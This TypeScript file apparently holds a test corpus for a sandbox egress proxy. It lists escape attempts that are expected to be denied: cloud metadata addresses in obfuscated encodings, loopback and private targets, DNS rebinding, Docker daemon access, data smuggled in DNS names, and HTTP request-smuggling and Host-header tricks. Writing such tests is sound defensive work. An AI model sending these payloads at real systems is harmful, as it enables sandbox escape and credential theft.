/** What an escape case needs to know of the world it runs in. */
export interface EscapeWorld {
  /** The one web server that the profile allows, as an address and port; it answers anything with 200. */
  readonly allowed: { readonly host: string; readonly port: number }
  /** The engine's gateway on the workload's network. */
  readonly gateway: string
  /** Another workload, and the way out of another workload. */
  readonly otherWorkload: string
  readonly otherListener: { readonly host: string; readonly port: number }
  /** Where the workload's own way out listens. */
  readonly listener: { readonly host: string; readonly port: number }
  /** An address of the host that is not the gateway. */
  readonly hostAddress: string
}

/** What the workload sends to its way out, and whether it may get through. */
export interface EscapeCase {
  readonly title: string
  /** Bytes as they go over the wire (one char, one byte), or a request that any HTTP client can make. */
  readonly request: { readonly raw: string } | { readonly method: 'CONNECT' | 'GET'; readonly url: string }
  readonly expect: 'denied' | 'allowed'
}

/**
 * The profile under which the corpus is run. Names end in `.test`; NAMES says what the test's name
 * server answers. The allowed server is listed as a literal, since test servers are on private addresses.
 */
export const corpusProfile = ({ allowed }: EscapeWorld) => ({
  name: 'corpus',
  network: {
    outbound: {
      allow_host: [allowed.host, 'allowed.test', '.wild.test', 'rebind.test', 'mixed.test', 'bücher.test'],
      allow_port: [allowed.port],
    },
  },
})

/** What the test's name server answers; each name has one list per look-up, the last one repeats. */
export const corpusNames = (
  world: EscapeWorld,
): Readonly<Record<string, readonly (readonly string[])[]>> => ({
  'allowed.test': [[world.allowed.host]],
  'wild.test': [[world.allowed.host]],
  'sub.wild.test': [[world.allowed.host]],
  'xn--bcher-kva.test': [[world.allowed.host]],
  'meta.wild.test': [['169.254.169.254']],
  'mapped.wild.test': [['::ffff:169.254.169.254']],
  'nat64.wild.test': [['64:ff9b::a9fe:a9fe']],
  'private.wild.test': [['10.11.12.13']],
  'loop.wild.test': [['127.0.0.77']],
  'loop6.wild.test': [['::1']],
  'zero.wild.test': [['0.0.0.0']],
  'link6.wild.test': [['fe80::1']],
  'gateway.wild.test': [[world.gateway]],
  'host.wild.test': [[world.hostAddress]],
  'other.wild.test': [[world.otherWorkload]],
  'rebind.test': [['10.11.12.13'], [world.allowed.host], ['10.11.12.13']],
  'mixed.test': [[world.allowed.host, '10.11.12.13']],
})

const CRLF = '\r\n'

/** A raw request: first line, headers, body. */
const raw = (line: string, headers: readonly string[], body = ''): { raw: string } => ({
  raw: [line, ...headers, '', ''].join(CRLF) + body,
})

/** The escape attempts; every way out is tried as a plain request and as a tunnel where both exist. */
export function escapeCorpus(world: EscapeWorld): EscapeCase[] {
  const { allowed } = world
  const at = (host: string, port: number = allowed.port) => `${host}:${port}`
  const good = at(allowed.host)
  const denied = (title: string, request: EscapeCase['request']): EscapeCase => ({
    title,
    request,
    expect: 'denied',
  })
  const passes = (title: string, request: EscapeCase['request']): EscapeCase => ({
    title,
    request,
    expect: 'allowed',
  })
  const both = (title: string, host: string, port?: number): EscapeCase[] => [
    denied(`${title}, plain`, { method: 'GET', url: `http://${at(host, port)}/` }),
    denied(`${title}, tunnel`, { method: 'CONNECT', url: at(host, port) }),
  ]

  const open: EscapeCase[] = [
    passes('the allowed address, plain', { method: 'GET', url: `http://${good}/` }),
    passes('the allowed address, tunnel', { method: 'CONNECT', url: good }),
    passes('the allowed name', { method: 'GET', url: `http://${at('allowed.test')}/` }),
    passes('the allowed name in capitals with a dot', { method: 'CONNECT', url: at('ALLOWED.Test.') }),
    passes('the apex of an allowed domain', { method: 'CONNECT', url: at('wild.test') }),
    passes('a name below an allowed domain', { method: 'CONNECT', url: at('sub.wild.test') }),
    passes('an international name', { method: 'CONNECT', url: at('xn--bcher-kva.test') }),
  ]

  const names: EscapeCase[] = [
    ...both('another name', 'evil.test'),
    ...both('a name that ends like the allowed one', 'notallowed.test'),
    ...both('a name that starts like the allowed one', 'allowed.test.evil.test'),
    ...both('a name below the allowed one', 'sub.allowed.test'),
    ...both('a name that ends like the allowed domain', 'notwild.test'),
    denied('data in a denied name', { method: 'CONNECT', url: at('c2VjcmV0.exfil.test') }),
    denied('data in a long denied name', { method: 'CONNECT', url: at(`${'a'.repeat(63)}.exfil.test`) }),
    denied('another port of the allowed name', { method: 'CONNECT', url: at('allowed.test', 22) }),
    denied('another port of the allowed address', { method: 'CONNECT', url: at(allowed.host, 53) }),
    ...both('a public address', '93.184.216.34', 443),
    ...both('a public IPv6 address', '[2606:4700::1111]', 443),
    denied('a name server by address', { method: 'CONNECT', url: '8.8.8.8:53' }),
  ]

  const metadata: EscapeCase[] = [
    '169.254.169.254',
    '169.254.43518',
    '169.16689662',
    '2852039166',
    '0xa9fea9fe',
    '0xa9.0xfe.0xa9.0xfe',
    '025177524776',
    '0251.0376.0251.0376',
    '[::ffff:169.254.169.254]',
    '[::ffff:a9fe:a9fe]',
    '[::a9fe:a9fe]',
    '[64:ff9b::169.254.169.254]',
    '[64:ff9b:1::a9fe:a9fe]',
    '[2002:a9fe:a9fe::1]',
    '[2001:0:a9fe:a9fe::1]',
    '[fd00:ec2::254]',
    '169.254.170.2',
    '100.100.100.200',
    '168.63.129.16',
    'metadata.google.internal',
  ].flatMap(host => [
    denied(`metadata as ${host}, plain`, { method: 'GET', url: `http://${host}/latest/meta-data/` }),
    denied(`metadata as ${host}, allowed port`, { method: 'CONNECT', url: at(host) }),
  ])

  const special: EscapeCase[] = [
    '127.0.0.2',
    '127.2',
    '0x7f000002',
    '2130706434',
    '017700000002',
    '127.0.0.2.',
    'localhost.localdomain',
    '[::1]',
    '[0:0:0:0:0:0:0:1]',
    '[::ffff:127.0.0.2]',
    '0.0.0.0',
    '0',
    '[::]',
    '10.0.0.1',
    '172.16.0.1',
    '192.168.0.1',
    '3232235521',
    '[fd00::1]',
    '100.64.0.1',
    '169.254.1.1',
    '[fe80::1]',
    '[fe80::1%25eth0]',
    '224.0.0.1',
    '255.255.255.255',
    '[ff02::1]',
  ].map(host => denied(`special address ${host}`, { method: 'CONNECT', url: at(host) }))

  const around: EscapeCase[] = [
    ...both('the gateway', world.gateway),
    ...both('the gateway as a mapped address', `[::ffff:${world.gateway}]`),
    ...both('the gateway as a NAT64 address', `[64:ff9b::${world.gateway}]`),
    ...both('host.docker.internal', 'host.docker.internal'),
    ...both('HOST.Docker.Internal.', 'HOST.Docker.Internal.'),
    ...both('gateway.docker.internal', 'gateway.docker.internal'),
    ...both('host.containers.internal', 'host.containers.internal'),
    ...both('an address of the host', world.hostAddress),
    ...both('the docker daemon on the gateway', world.gateway, 2375),
    ...both('another workload', world.otherWorkload),
    ...both('the way out itself', world.listener.host, world.listener.port),
    ...both('the way out of another workload', world.otherListener.host, world.otherListener.port),
  ]

  const rebinding: EscapeCase[] = [
    'meta.wild.test',
    'mapped.wild.test',
    'nat64.wild.test',
    'private.wild.test',
    'loop.wild.test',
    'loop6.wild.test',
    'zero.wild.test',
    'link6.wild.test',
    'gateway.wild.test',
    'host.wild.test',
    'other.wild.test',
    'rebind.test',
    'mixed.test',
  ].map(name => denied(`allowed name ${name} with a denied address`, { method: 'CONNECT', url: at(name) }))

  const redirects: EscapeCase[] = [
    denied('the target of a redirect to metadata', { method: 'GET', url: 'http://169.254.169.254/latest/' }),
    denied('the target of a redirect to the host', { method: 'GET', url: `http://${at('127.0.0.3')}/admin` }),
    denied(
      'the target of a redirect without a host',
      raw('GET http:///etc/passwd HTTP/1.1', [`Host: ${good}`]),
    ),
  ]

  const tricks: EscapeCase[] = [
    denied('CONNECT without a port', raw(`CONNECT ${allowed.host} HTTP/1.1`, [`Host: ${allowed.host}`])),
    denied(
      'CONNECT with port 0',
      raw(`CONNECT ${at(allowed.host, 0)} HTTP/1.1`, [`Host: ${at(allowed.host, 0)}`]),
    ),
    denied(
      'CONNECT with a port too big',
      raw(`CONNECT ${allowed.host}:${allowed.port + 65_536} HTTP/1.1`, [`Host: ${good}`]),
    ),
    denied(
      'CONNECT with a sign before the port',
      raw(`CONNECT ${allowed.host}:+${allowed.port} HTTP/1.1`, [`Host: ${good}`]),
    ),
    denied('CONNECT with a URL', raw(`CONNECT http://${good}/ HTTP/1.1`, [`Host: ${good}`])),
    denied(
      'CONNECT with user information',
      raw(`CONNECT ${good}@evil.test:${allowed.port} HTTP/1.1`, [`Host: ${good}`]),
    ),
    denied(
      'CONNECT elsewhere with the allowed Host',
      raw('CONNECT evil.test:443 HTTP/1.1', [`Host: ${good}`]),
    ),
    denied(
      'CONNECT to the allowed one with another Host',
      raw(`CONNECT ${good} HTTP/1.1`, ['Host: evil.test:443']),
    ),
    denied('CONNECT with two Hosts', raw(`CONNECT ${good} HTTP/1.1`, [`Host: ${good}`, 'Host: evil.test'])),
    denied('CONNECT without Host', raw(`CONNECT ${good} HTTP/1.1`, [])),
    denied(
      'CONNECT with a body length',
      raw(`CONNECT ${good} HTTP/1.1`, [`Host: ${good}`, 'Content-Length: 5'], 'hello'),
    ),
    denied(
      'CONNECT with a chunked body',
      raw(`CONNECT ${good} HTTP/1.1`, [`Host: ${good}`, 'Transfer-Encoding: chunked'], `0${CRLF}${CRLF}`),
    ),
    denied(
      'CONNECT with a NUL in the host',
      raw(`CONNECT ${allowed.host}\0.evil.test:${allowed.port} HTTP/1.1`, [`Host: ${good}`]),
    ),
    denied(
      'CONNECT with a percent in the host',
      raw(`CONNECT %31%32%37.0.0.2:${allowed.port} HTTP/1.1`, [`Host: ${good}`]),
    ),
    denied(
      'CONNECT with a full-width digit',
      raw(`CONNECT \xef\xbc\x91.0.0.1:${allowed.port} HTTP/1.1`, [`Host: ${good}`]),
    ),
    denied('CONNECT to a socket file', raw('CONNECT /var/run/docker.sock HTTP/1.1', [`Host: ${good}`])),
  ]

  const get = `GET http://${good}/ HTTP/1.1`
  const post = `POST http://${good}/ HTTP/1.1`
  const host = `Host: ${good}`
  const hidden = `GET http://evil.test/ HTTP/1.1${CRLF}Host: evil.test${CRLF}${CRLF}`
  const smuggling: EscapeCase[] = [
    denied('Host of another server', raw(get, ['Host: evil.test'])),
    denied('Host with another port', raw(get, [`Host: ${at(allowed.host, 22)}`])),
    denied('no Host', raw(get, [])),
    denied('an empty Host', raw(get, ['Host:'])),
    denied('two Hosts', raw(get, [host, 'Host: evil.test'])),
    denied('the same Host twice', raw(get, [host, host])),
    denied('a space before the colon of Host', raw(get, [`Host : ${good}`])),
    denied('a folded header', raw(get, [host, 'X-A: one', ' Host: evil.test'])),
    denied('a bare LF between headers', raw(get, [host, `X-A: one\nHost: evil.test`])),
    denied('a bare LF after the first line', { raw: `${get}\n${host}\n\n` }),
    denied('a bare CR in a header', raw(get, [host, 'X-A: one\rHost: evil.test'])),
    denied('a NUL in a header', raw(get, [host, 'X-A: one\0two'])),
    denied(
      'both length and chunks',
      raw(post, [host, 'Content-Length: 4', 'Transfer-Encoding: chunked'], `0${CRLF}${CRLF}${hidden}`),
    ),
    denied(
      'chunks and length',
      raw(post, [host, 'Transfer-Encoding: chunked', 'Content-Length: 4'], `0${CRLF}${CRLF}${hidden}`),
    ),
    denied('two lengths', raw(post, [host, 'Content-Length: 0', `Content-Length: ${hidden.length}`], hidden)),
    denied('a list of lengths', raw(post, [host, 'Content-Length: 0, 5'], 'hello')),
    denied('a length with a sign', raw(post, [host, 'Content-Length: +5'], 'hello')),
    denied('a length in hexadecimal', raw(post, [host, 'Content-Length: 0x5'], 'hello')),
    denied(
      'chunked twice',
      raw(post, [host, 'Transfer-Encoding: chunked', 'Transfer-Encoding: chunked'], `0${CRLF}${CRLF}`),
    ),
    denied('an unknown coding', raw(post, [host, 'Transfer-Encoding: xchunked'], `0${CRLF}${CRLF}`)),
    denied('chunked not last', raw(post, [host, 'Transfer-Encoding: chunked, identity'], `0${CRLF}${CRLF}`)),
    denied(
      'a coding before chunked',
      raw(post, [host, 'Transfer-Encoding: gzip, chunked'], `0${CRLF}${CRLF}`),
    ),
    denied(
      'chunks in HTTP/1.0',
      raw(`POST http://${good}/ HTTP/1.0`, [host, 'Transfer-Encoding: chunked'], `0${CRLF}${CRLF}`),
    ),
    denied(
      'Connection that drops the length',
      raw(post, [host, 'Connection: content-length', 'Content-Length: 5'], 'hello'),
    ),
    denied('Connection that drops the Host', raw(get, [host, 'Connection: host'])),
    denied('user information in the URL', raw(`GET http://${good}@evil.test/ HTTP/1.1`, ['Host: evil.test'])),
    denied('user information before the allowed host', raw(`GET http://evil.test@${good}/ HTTP/1.1`, [host])),
    denied('a backslash in the authority', raw(`GET http://${good}\\@evil.test/ HTTP/1.1`, [host])),
    denied('a fragment that hides the host', raw(`GET http://evil.test#@${good}/ HTTP/1.1`, [host])),
    denied('a path without a host', raw('GET /etc/passwd HTTP/1.1', [host])),
    denied('a star', raw('OPTIONS * HTTP/1.1', [host])),
    denied('an ftp URL', raw(`GET ftp://${good}/ HTTP/1.1`, [host])),
    denied('a file URL', raw('GET file:///etc/passwd HTTP/1.1', [host])),
    denied('an https URL without a tunnel', raw(`GET https://${good}/ HTTP/1.1`, [host])),
    denied('a tab in the URL', raw(`GET http://evil\t.test/ HTTP/1.1`, [host])),
    denied('HTTP/0.9', { raw: `GET http://${good}/${CRLF}${CRLF}` }),
    denied('HTTP/2 with prior knowledge', { raw: `PRI * HTTP/2.0${CRLF}${CRLF}SM${CRLF}${CRLF}` }),
    denied('TLS to the proxy', { raw: `\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03${'\x00'.repeat(160)}` }),
    denied('SOCKS5 to the proxy', { raw: '\x05\x01\x00' + '\x05\x01\x00\x03\x09evil.test\x01\xbb' }),
    denied('a DNS query over TCP to the proxy', {
      raw: '\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x10\x00\x01',
    }),
    denied('headers too long', raw(get, [host, `X-A: ${'a'.repeat(64 * 1024)}`])),
    denied(
      'a websocket in plain',
      raw(get, [
        host,
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ]),
    ),
    denied('TRACE', raw(`TRACE http://${good}/ HTTP/1.1`, [host])),
  ]

  return [
    ...open,
    ...names,
    ...metadata,
    ...special,
    ...around,
    ...rebinding,
    ...redirects,
    ...tricks,
    ...smuggling,
  ]
}
